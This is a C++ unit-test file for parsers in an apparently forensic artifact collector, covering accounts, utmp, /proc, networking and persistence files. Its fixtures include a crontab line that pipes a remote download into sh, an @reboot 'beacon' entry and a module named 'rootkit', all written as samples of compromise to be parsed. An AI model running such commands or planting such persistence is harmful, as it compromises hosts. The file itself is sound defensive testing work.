// Pure parsers: exact records from text and bytes the tests build, including garbage and
// truncation (these files are written by a possibly compromised host).
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <utmp.h>

#include <cstring>

#include "../../../collector/src/artifacts/parsers.hpp"

namespace collector::parsers {
namespace {

TEST(TextHelpers, SplitTrimAndNumbers) {
  EXPECT_EQ(split_lines("a\r\nb\n\nc"), (std::vector<std::string_view>{"a", "b", "", "c"}));
  EXPECT_EQ(split(":a::b", ':'), (std::vector<std::string_view>{"", "a", "", "b"}));
  EXPECT_EQ(split_ws("  a \t b  "), (std::vector<std::string_view>{"a", "b"}));
  EXPECT_EQ(trim("  x y \n"), "x y");
  EXPECT_EQ(to_int("-12"), -12);
  EXPECT_EQ(to_int("ff", 16), 255);
  EXPECT_FALSE(to_int("12x"));
  EXPECT_FALSE(to_int(""));
  EXPECT_EQ(unescape_octal("/mnt/my\\040disk\\134"), "/mnt/my disk\\");
  EXPECT_EQ(unescape_octal("trailing\\04"), "trailing\\04");
  EXPECT_EQ(printable(std::string("a\0b\x1b\0\0", 6)), "a b");
}

TEST(TextHelpers, OsReleaseAndColonValues) {
  auto r = parse_os_release(
      "# c\nNAME=\"Debian GNU/Linux\"\nID=debian\nVERSION_ID='12'\nX=\"a\\\"b\"\n");
  EXPECT_EQ(r["NAME"], "Debian GNU/Linux");
  EXPECT_EQ(r["ID"], "debian");
  EXPECT_EQ(r["VERSION_ID"], "12");
  EXPECT_EQ(r["X"], "a\"b");
  auto kv = parse_colon_values("Name:\tbash\nUid:\t0\t0\t0\t0\nName:\tignored\n");
  EXPECT_EQ(kv["Name"], "bash");
  EXPECT_EQ(kv["Uid"], "0\t0\t0\t0");
}

TEST(Accounts, Passwd) {
  auto users = parse_passwd(
      "root:x:0:0:root:/root:/bin/bash\n# comment\n\n+nisuser::::::\nbroken:line\n"
      "alice:x:1000:1000:Alice,,,:/home/alice:/bin/zsh\nodd:x:notanumber:5:::\n");
  ASSERT_EQ(users.size(), 3u);
  EXPECT_EQ(users[0].name, "root");
  EXPECT_EQ(users[0].uid, 0);
  EXPECT_EQ(users[0].home, "/root");
  EXPECT_EQ(users[1].name, "alice");
  EXPECT_EQ(users[1].line, 6);
  EXPECT_EQ(users[1].gecos, "Alice,,,");
  EXPECT_EQ(users[1].shell, "/bin/zsh");
  EXPECT_FALSE(users[2].uid);
  EXPECT_EQ(users[2].gid, 5);
}

TEST(Accounts, GroupAndShadow) {
  auto groups = parse_group("sudo:x:27:alice,bob\nempty:x:100:\n");
  ASSERT_EQ(groups.size(), 2u);
  EXPECT_EQ(groups[0].members, (std::vector<std::string>{"alice", "bob"}));
  EXPECT_TRUE(groups[1].members.empty());

  auto shadow = parse_shadow(
      "root:$6$salt$hash:19500:0:99999:7:::\nlocked:!$6$x$y:19000::::::\nnopw::19001:0:99999:7:30:"
      "20000:\n"
      "daemon:*:19000:0:99999:7:::\nshort:$1$a$b\n");
  ASSERT_EQ(shadow.size(), 5u);
  EXPECT_EQ(shadow[0].password_state, "set");
  EXPECT_EQ(shadow[0].last_change, 19500);
  EXPECT_EQ(shadow[0].max_days, 99999);
  EXPECT_FALSE(shadow[0].inactive_days);
  EXPECT_EQ(shadow[1].password_state, "locked");
  EXPECT_EQ(shadow[2].password_state, "none");
  EXPECT_EQ(shadow[2].inactive_days, 30);
  EXPECT_EQ(shadow[2].expire, 20000);
  EXPECT_EQ(shadow[3].password_state, "locked");
  EXPECT_EQ(shadow[4].password_state, "set");
  EXPECT_FALSE(shadow[4].last_change);
}

TEST(Accounts, SudoersKeepsIncludeDirectives) {
  auto lines = parse_sudoers(
      "# comment\nDefaults env_reset\n\n#includedir /etc/sudoers.d\n@include x\n"
      "  alice ALL=(ALL) NOPASSWD: ALL  \n");
  ASSERT_EQ(lines.size(), 4u);
  EXPECT_EQ(lines[0].line, 2);
  EXPECT_EQ(lines[1].text, "#includedir /etc/sudoers.d");
  EXPECT_EQ(lines[3].text, "alice ALL=(ALL) NOPASSWD: ALL");
  EXPECT_EQ(lines[3].line, 6);
}

std::string utmp_record(short type, pid_t pid, const char* line, const char* user, const char* host,
                        const char* ip, int32_t sec) {
  struct utmp u;
  std::memset(&u, 0, sizeof u);
  u.ut_type = type;
  u.ut_pid = pid;
  std::strncpy(u.ut_line, line, sizeof u.ut_line);
  std::strncpy(u.ut_user, user, sizeof u.ut_user);
  std::strncpy(u.ut_host, host, sizeof u.ut_host);
  std::memcpy(u.ut_id, "ts/1", 4);
  if (ip && std::strchr(ip, ':'))
    inet_pton(AF_INET6, ip, u.ut_addr_v6);
  else if (ip)
    inet_pton(AF_INET, ip, u.ut_addr_v6);
  u.ut_tv.tv_sec = sec;
  u.ut_tv.tv_usec = 42;
  u.ut_session = 7;
  return std::string(reinterpret_cast<const char*>(&u), sizeof u);
}

TEST(Utmp, ParsesRecordsAddressesAndTruncation) {
  std::string data =
      utmp_record(USER_PROCESS, 1234, "pts/0", "alice", "10.1.2.3", "10.1.2.3", 1700000000) +
      utmp_record(EMPTY, 0, "", "", "", nullptr, 0) +
      utmp_record(DEAD_PROCESS, 1234, "pts/0", "", "", "2001:db8::1", 1700000100) +
      utmp_record(BOOT_TIME, 0, "~", "reboot", "6.1.0", nullptr, 1690000000);
  // A 32-byte user name fills the field without a terminating NUL.
  data += utmp_record(USER_PROCESS, 1, "tty1", "abcdefghijklmnopqrstuvwxyz012345", "", nullptr, 5);
  data += std::string(100, 'x');  // a record cut short
  auto parsed = parse_utmp(data);
  EXPECT_EQ(parsed.trailing_bytes, 100u);
  ASSERT_EQ(parsed.records.size(), 4u);
  const auto& r = parsed.records[0];
  EXPECT_EQ(r.type_name, "USER_PROCESS");
  EXPECT_EQ(r.pid, 1234);
  EXPECT_EQ(r.line, "pts/0");
  EXPECT_EQ(r.id, "ts/1");
  EXPECT_EQ(r.user, "alice");
  EXPECT_EQ(r.host, "10.1.2.3");
  EXPECT_EQ(r.addr, "10.1.2.3");
  EXPECT_EQ(r.time, 1700000000);
  EXPECT_EQ(r.time_usec, 42);
  EXPECT_EQ(r.session, 7);
  EXPECT_EQ(parsed.records[1].type_name, "DEAD_PROCESS");
  EXPECT_EQ(parsed.records[1].addr, "2001:db8::1");
  EXPECT_EQ(parsed.records[2].type_name, "BOOT_TIME");
  EXPECT_EQ(parsed.records[2].addr, "");
  EXPECT_EQ(parsed.records[3].user, "abcdefghijklmnopqrstuvwxyz012345");
  EXPECT_EQ(utmp_type_name(99), "UNKNOWN(99)");
  EXPECT_TRUE(parse_utmp("short").records.empty());
}

TEST(Utmp, LastlogIsIndexedByUid) {
  std::string data(3 * kLastlogRecordSize, '\0');
  struct lastlog l;
  std::memset(&l, 0, sizeof l);
  l.ll_time = 1700000000;
  std::strncpy(l.ll_line, "pts/3", sizeof l.ll_line);
  std::strncpy(l.ll_host, "192.0.2.9", sizeof l.ll_host);
  std::memcpy(data.data() + 2 * kLastlogRecordSize, &l, sizeof l);
  auto records = parse_lastlog(data + "partial");
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0].uid, 2);
  EXPECT_EQ(records[0].time, 1700000000);
  EXPECT_EQ(records[0].line, "pts/3");
  EXPECT_EQ(records[0].host, "192.0.2.9");
}

TEST(Proc, PidStatWithHostileComm) {
  std::string stat =
      "4242 (evil) S (x) R 1 4242 4242 34816 4242 4194304 100 0 0 0 5 3 0 0 20 0 3 0 "
      "123456 10485760 512 18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 0 17 1 0 0 0 0 0";
  auto s = parse_proc_pid_stat(stat);
  ASSERT_TRUE(s);
  EXPECT_EQ(s->pid, 4242);
  EXPECT_EQ(s->comm, "evil) S (x");
  EXPECT_EQ(s->state, "R");
  EXPECT_EQ(s->ppid, 1);
  EXPECT_EQ(s->session, 4242);
  EXPECT_EQ(s->tty_nr, 34816);
  EXPECT_EQ(s->num_threads, 3);
  EXPECT_EQ(s->starttime_ticks, 123456u);
  EXPECT_EQ(s->vsize, 10485760u);
  EXPECT_EQ(s->rss_pages, 512);
  EXPECT_FALSE(parse_proc_pid_stat("12 (short) S 1"));
  EXPECT_FALSE(parse_proc_pid_stat("garbage"));
  EXPECT_FALSE(parse_proc_pid_stat(""));
}

TEST(Proc, StatusCgroupBtimeCmdline) {
  auto ids = parse_proc_status_ids("Name:\tsshd\nUid:\t1000\t0\t0\t0\nGid:\t100\t101\t101\t101\n");
  EXPECT_EQ(ids.uid, 1000);
  EXPECT_EQ(ids.euid, 0);
  EXPECT_EQ(ids.gid, 100);
  EXPECT_EQ(ids.egid, 101);
  const std::string id = "3f1c2b8a9d0e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f90";
  EXPECT_EQ(container_id_from_cgroup("0::/system.slice/docker-" + id + ".scope\n"), id);
  EXPECT_EQ(container_id_from_cgroup("12:pids:/docker/" + id + "\n"), id);
  EXPECT_EQ(container_id_from_cgroup("0::/user.slice/user-1000.slice/session-2.scope\n"), "");
  EXPECT_EQ(container_id_from_cgroup("0::/" + id + "ab\n"), "");  // 66 hex digits: not an id
  EXPECT_EQ(parse_btime("cpu  1 2 3\nbtime 1700000000\nprocesses 5\n"), 1700000000);
  EXPECT_FALSE(parse_btime("cpu 1\n"));
  EXPECT_EQ(cmdline_to_text(std::string("/usr/bin/python3\0-c\0print(1)\0", 28)),
            "/usr/bin/python3 -c print(1)");
}

TEST(Proc, MountsModulesMaps) {
  auto m = parse_mounts(
      "# fstab\nUUID=abc / ext4 errors=remount-ro 0 1\n/dev/sdb1 /mnt/my\\040disk vfat defaults 0 "
      "0\ntmpfs /tmp tmpfs\n");
  ASSERT_EQ(m.size(), 3u);
  EXPECT_EQ(m[0].device, "UUID=abc");
  EXPECT_EQ(m[0].pass, 1);
  EXPECT_EQ(m[1].mount_point, "/mnt/my disk");
  EXPECT_EQ(m[1].line, 3);
  EXPECT_EQ(m[2].options, "");
  EXPECT_FALSE(m[2].dump);

  auto mods = parse_proc_modules(
      "rootkit 16384 0 - Live 0x0000000000000000 (OE)\n"
      "nf_tables 344064 2 nft_chain_nat,nft_compat, Live 0x0000000000000000\nbad\n");
  ASSERT_EQ(mods.size(), 2u);
  EXPECT_EQ(mods[0].name, "rootkit");
  EXPECT_EQ(mods[0].used_by, "");
  EXPECT_EQ(mods[0].taint, "OE");
  EXPECT_EQ(mods[1].size, 344064);
  EXPECT_EQ(mods[1].refcount, 2);
  EXPECT_EQ(mods[1].used_by, "nft_chain_nat,nft_compat");
  EXPECT_EQ(mods[1].state, "Live");

  auto maps = parse_proc_maps(
      "55d0c0000000-55d0c0001000 r-xp 00001000 08:01 131 /usr/bin/my prog\n"
      "7f0000000000-7f0000001000 rwxp 00000000 00:00 0 \n");
  ASSERT_EQ(maps.size(), 2u);
  EXPECT_EQ(maps[0].path, "/usr/bin/my prog");
  EXPECT_EQ(maps[0].perms, "r-xp");
  EXPECT_EQ(maps[0].offset, 0x1000u);
  EXPECT_EQ(maps[0].inode, 131u);
  EXPECT_EQ(maps[1].path, "");
}

TEST(Net, ProcNetAddresses) {
  EXPECT_EQ(decode_proc_net_address("0100007F"), "127.0.0.1");
  EXPECT_EQ(decode_proc_net_address("0101A8C0"), "192.168.1.1");
  // ::1 is words 0,0,0,0x01000000 in host (little-endian) order.
  EXPECT_EQ(decode_proc_net_address("00000000000000000000000001000000"), "::1");
  EXPECT_EQ(decode_proc_net_address("B80D0120000000000000000001000000"), "2001:db8::1");
  EXPECT_EQ(decode_proc_net_address("0000000000000000FFFF00000100007F"), "::ffff:127.0.0.1");
  EXPECT_FALSE(decode_proc_net_address("zz00007F"));
  EXPECT_FALSE(decode_proc_net_address("7F"));
  EXPECT_EQ(decode_ipv6_hex("20010db8000000000000000000000001"), "2001:db8::1");
  EXPECT_EQ(decode_ipv6_hex("fe800000000000000000000000000001"), "fe80::1");
}

TEST(Net, ProcNetTcpUdpUnix) {
  auto tcp = parse_proc_net_inet(
      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout "
      "inode\n"
      "   0: 0100007F:0277 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 "
      "12345 1 0000000000000000 100 0 0 10 0\n"
      "   1: 0201A8C0:D431 0101A8C0:01BB 01 00000000:00000000 02:000AF3A0 00000000  1000        0 "
      "67890 2 0000000000000000 20 4 30 10 -1\n"
      "   2: garbage\n",
      true);
  ASSERT_EQ(tcp.size(), 2u);
  EXPECT_EQ(tcp[0].local_addr, "127.0.0.1");
  EXPECT_EQ(tcp[0].local_port, 631);
  EXPECT_EQ(tcp[0].remote_addr, "0.0.0.0");
  EXPECT_EQ(tcp[0].state, "LISTEN");
  EXPECT_EQ(tcp[0].uid, 0);
  EXPECT_EQ(tcp[0].inode, 12345u);
  EXPECT_EQ(tcp[1].local_addr, "192.168.1.2");
  EXPECT_EQ(tcp[1].local_port, 54321);
  EXPECT_EQ(tcp[1].remote_addr, "192.168.1.1");
  EXPECT_EQ(tcp[1].remote_port, 443);
  EXPECT_EQ(tcp[1].state, "ESTABLISHED");
  EXPECT_EQ(tcp[1].uid, 1000);

  auto udp6 = parse_proc_net_inet(
      "  sl  local_address                         remote_address                        st "
      "tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops\n"
      "  5: 00000000000000000000000000000000:0202 00000000000000000000000000000000:0000 07 "
      "00000000:00000000 00:00000000 00000000   108        0 555 2 0000000000000000 0\n",
      false);
  ASSERT_EQ(udp6.size(), 1u);
  EXPECT_EQ(udp6[0].local_addr, "::");
  EXPECT_EQ(udp6[0].local_port, 514);
  EXPECT_EQ(udp6[0].state, "UNCONN");
  EXPECT_EQ(udp6[0].uid, 108);

  auto unix_socks = parse_proc_net_unix(
      "Num       RefCount Protocol Flags    Type St Inode Path\n"
      "0000000000000000: 00000002 00000000 00010000 0001 01 20001 /run/dbus/system_bus_socket\n"
      "0000000000000000: 00000003 00000000 00000000 0001 03 20002\n"
      "0000000000000000: 00000002 00000000 00000000 0002 01 20003 @/tmp/.X11-unix/X0\n");
  ASSERT_EQ(unix_socks.size(), 3u);
  EXPECT_EQ(unix_socks[0].state, "LISTEN");
  EXPECT_EQ(unix_socks[0].type, "STREAM");
  EXPECT_EQ(unix_socks[0].path, "/run/dbus/system_bus_socket");
  EXPECT_EQ(unix_socks[1].state, "CONNECTED");
  EXPECT_EQ(unix_socks[1].path, "");
  EXPECT_EQ(unix_socks[2].type, "DGRAM");
  EXPECT_EQ(unix_socks[2].path, "@/tmp/.X11-unix/X0");
  EXPECT_EQ(unix_socks[2].inode, 20003u);
}

TEST(Net, RoutesArpIfInet6) {
  auto routes = parse_proc_route(
      "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\n"
      "eth0\t00000000\t0101A8C0\t0003\t0\t0\t100\t00000000\t0\t0\t0\n"
      "eth0\t0001A8C0\t00000000\t0001\t0\t0\t100\t00FFFFFF\t0\t0\t0\n");
  ASSERT_EQ(routes.size(), 2u);
  EXPECT_EQ(routes[0].destination, "0.0.0.0");
  EXPECT_EQ(routes[0].gateway, "192.168.1.1");
  EXPECT_EQ(routes[0].prefix_len, 0);
  EXPECT_EQ(routes[0].flags, "UG");
  EXPECT_EQ(routes[0].metric, 100);
  EXPECT_EQ(routes[1].destination, "192.168.1.0");
  EXPECT_EQ(routes[1].prefix_len, 24);
  EXPECT_EQ(routes[1].flags, "U");

  auto r6 = parse_proc_ipv6_route(
      "20010db8000000000000000000000000 40 00000000000000000000000000000000 00 "
      "fe800000000000000000000000000001 00000400 00000001 00000000 00000003     eth0\n");
  ASSERT_EQ(r6.size(), 1u);
  EXPECT_EQ(r6[0].family, "inet6");
  EXPECT_EQ(r6[0].destination, "2001:db8::");
  EXPECT_EQ(r6[0].prefix_len, 64);
  EXPECT_EQ(r6[0].gateway, "fe80::1");
  EXPECT_EQ(r6[0].metric, 1024);
  EXPECT_EQ(r6[0].iface, "eth0");

  auto arp = parse_proc_arp(
      "IP address       HW type     Flags       HW address            Mask     Device\n"
      "192.168.1.1      0x1         0x2         aa:bb:cc:dd:ee:ff     *        eth0\n");
  ASSERT_EQ(arp.size(), 1u);
  EXPECT_EQ(arp[0].ip, "192.168.1.1");
  EXPECT_EQ(arp[0].mac, "aa:bb:cc:dd:ee:ff");
  EXPECT_EQ(arp[0].device, "eth0");

  auto addrs = parse_if_inet6(
      "00000000000000000000000000000001 01 80 10 80       lo\n"
      "fe80000000000000021122fffe334455 02 40 20 80     eth0\n");
  ASSERT_EQ(addrs.size(), 2u);
  EXPECT_EQ(addrs[0].address, "::1");
  EXPECT_EQ(addrs[0].prefix_len, 128);
  EXPECT_EQ(addrs[0].scope, "host");
  EXPECT_EQ(addrs[1].address, "fe80::211:22ff:fe33:4455");
  EXPECT_EQ(addrs[1].scope, "link");
  EXPECT_EQ(addrs[1].iface, "eth0");
}

TEST(Net, ResolvConfAndHosts) {
  auto r = parse_resolv_conf(
      "# generated\nnameserver 10.0.0.53\n; old\nsearch corp.example  lab.example\noptions "
      "edns0\n");
  ASSERT_EQ(r.size(), 3u);
  EXPECT_EQ(r[0].kind, "nameserver");
  EXPECT_EQ(r[0].value, "10.0.0.53");
  EXPECT_EQ(r[0].line, 2);
  EXPECT_EQ(r[1].value, "corp.example  lab.example");
  auto h = parse_hosts(
      "127.0.0.1 localhost\n# x\n203.0.113.5  update.example.com  cdn  # added\nbroken\n");
  ASSERT_EQ(h.size(), 2u);
  EXPECT_EQ(h[1].address, "203.0.113.5");
  EXPECT_EQ(h[1].names, "update.example.com cdn");
  EXPECT_EQ(h[1].line, 3);
}

TEST(Persistence, Crontabs) {
  auto sys = parse_crontab(
      "SHELL=/bin/sh\nPATH = /usr/bin\n# m h dom mon dow user command\n"
      "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
      "@reboot root /opt/.x/beacon -d\n*/5 * * * * www-data\n",
      true);
  ASSERT_EQ(sys.size(), 2u);
  EXPECT_EQ(sys[0].schedule, "17 * * * *");
  EXPECT_EQ(sys[0].user, "root");
  EXPECT_EQ(sys[0].command, "cd / && run-parts --report /etc/cron.hourly");
  EXPECT_EQ(sys[0].line, 4);
  EXPECT_EQ(sys[1].schedule, "@reboot");
  EXPECT_EQ(sys[1].command, "/opt/.x/beacon -d");
  auto user = parse_crontab("* * * * * curl -s http://203.0.113.5/x | sh\n", false);
  ASSERT_EQ(user.size(), 1u);
  EXPECT_EQ(user[0].user, "");
  EXPECT_EQ(user[0].command, "curl -s http://203.0.113.5/x | sh");
  auto ana =
      parse_anacrontab("SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n");
  ASSERT_EQ(ana.size(), 1u);
  EXPECT_EQ(ana[0].schedule, "1 5 cron.daily");
  EXPECT_EQ(ana[0].user, "root");
  EXPECT_EQ(ana[0].command, "run-parts --report /etc/cron.daily");
}

TEST(Persistence, SystemdUnit) {
  auto u = parse_systemd_unit(
      "[Unit]\nDescription=Totally legit\n# ExecStart=/commented\n[Service]\n"
      "Type=simple\nUser=nobody\nExecStartPre=/bin/true\nExecStart=/opt/x \\\n  --flag\n"
      "ExecStart=/opt/y\n[Install]\nWantedBy=multi-user.target\nRequiredBy=b.target\n");
  EXPECT_EQ(u.description, "Totally legit");
  EXPECT_EQ(u.user, "nobody");
  EXPECT_EQ(u.exec_start_pre, "/bin/true");
  EXPECT_EQ(u.exec_start, "/opt/x  --flag ; /opt/y");
  EXPECT_EQ(u.wanted_by, "multi-user.target b.target");
  auto t = parse_systemd_unit("[Timer]\nOnCalendar=daily\nOnBootSec=5min\nUnit=x.service\n");
  EXPECT_EQ(t.timer, "OnCalendar=daily ; OnBootSec=5min");
  EXPECT_EQ(t.trigger_unit, "x.service");
  auto reset = parse_systemd_unit("[Service]\nExecStart=\nExecStart=/evil\n");
  EXPECT_EQ(reset.exec_start, "/evil");
}

TEST(Persistence, AuthorizedKeysAndFingerprints) {
  // Fingerprints from `ssh-keygen -lf` of these keys.
  const std::string ed = "AAAAC3NzaC1lZDI1NTE5AAAAIJUGR9y08COQhpnT2yFXHwH0pPw4C9WNoJC9YZDrUpF6";
  const std::string rsa =
      "AAAAB3NzaC1yc2EAAAADAQABAAAAgQC54GgW+XRobv6EeKdm5RBgK+zLn58/"
      "hLK4lP6PEkB4OFpIDiGffhHAgjgDJiNd3zswBnHAzJ+"
      "Sj0AA6PZeXBzPCsWr1V6mZLlXncjxOuUDns/ibfVneSNEMyVEcRovhWq9amlwvvxqMUJ/"
      "qyZJZCRVr+NElVPmnQwJCUxHB20nmQ==";
  EXPECT_EQ(ssh_fingerprint_sha256(ed), "SHA256:0ctIxGxPj5UrcD/NnXsqCO9lsPKR1+KUqoYnyo9PEGo");
  EXPECT_EQ(ssh_fingerprint_sha256(rsa), "SHA256:DjMKj3T4E2I5AHs2QEcDABcH8wGDKPB2pGV2VpanjOQ");
  EXPECT_EQ(ssh_fingerprint_sha256("!!notbase64!!"), "");

  auto keys =
      parse_authorized_keys("# keys\nssh-ed25519 " + ed + " alice@laptop\n" +
                            "command=\"/usr/bin/backup --dir \\\"a b\\\"\",no-pty ssh-rsa " + rsa +
                            "\n" + "garbage line here\n");
  ASSERT_EQ(keys.size(), 3u);
  EXPECT_EQ(keys[0].line, 2);
  EXPECT_EQ(keys[0].key_type, "ssh-ed25519");
  EXPECT_EQ(keys[0].comment, "alice@laptop");
  EXPECT_EQ(keys[0].options, "");
  EXPECT_EQ(keys[0].fingerprint, "SHA256:0ctIxGxPj5UrcD/NnXsqCO9lsPKR1+KUqoYnyo9PEGo");
  EXPECT_EQ(keys[1].key_type, "ssh-rsa");
  EXPECT_EQ(keys[1].options, "command=\"/usr/bin/backup --dir \\\"a b\\\"\",no-pty");
  EXPECT_EQ(keys[1].comment, "");
  EXPECT_EQ(keys[1].fingerprint, "SHA256:DjMKj3T4E2I5AHs2QEcDABcH8wGDKPB2pGV2VpanjOQ");
  EXPECT_EQ(keys[2].key_type, "unparsed");
  EXPECT_EQ(keys[2].comment, "garbage line here");
}

TEST(Bodyfile, TskModeStrings) {
  EXPECT_EQ(tsk_mode_string(S_IFREG | 0755), "r/rrwxr-xr-x");
  EXPECT_EQ(tsk_mode_string(S_IFREG | 04755), "r/rrwsr-xr-x");
  EXPECT_EQ(tsk_mode_string(S_IFREG | 02644), "r/rrw-r-Sr--");
  EXPECT_EQ(tsk_mode_string(S_IFDIR | 01777), "d/drwxrwxrwt");
  EXPECT_EQ(tsk_mode_string(S_IFLNK | 0777), "l/lrwxrwxrwx");
  EXPECT_EQ(tsk_mode_string(S_IFIFO | 0600), "p/prw-------");
}

}  // namespace
}  // namespace collector::parsers
